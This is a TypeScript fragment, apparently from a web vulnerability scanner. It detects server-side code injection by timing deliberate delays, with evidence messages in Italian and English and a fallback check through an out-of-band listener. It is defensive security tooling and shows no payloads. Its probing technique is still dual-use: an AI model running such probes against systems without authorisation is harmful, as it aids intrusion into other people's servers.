    for (const of of trial ? await waitsOf(trial) : []) {
      const seen = trial && (await showsWait(trial, { of, once: true }));
      if (!seen) continue;
      const evidence = filled(
        {
          it: 'Il codice che il server riceve viene eseguito: la risposta attende quanto il codice dice, e non altrimenti: {times}.',
          en: 'The code that the server is sent is run: the answer waits as long as it says, and not otherwise: {times}.',
        },
        { times: seen.evidence },
      );
      // A statement of SQL may call functions of the same names.
      return [{ ...trial.sighting(CODE.key, evidence, seen.messages), unlessSeen: ['sql-injection'] }];
    }
    const asked = trial && (await asksListener(trial));
    return asked ? [asked] : [];
  },
} as const satisfies PointCheck;
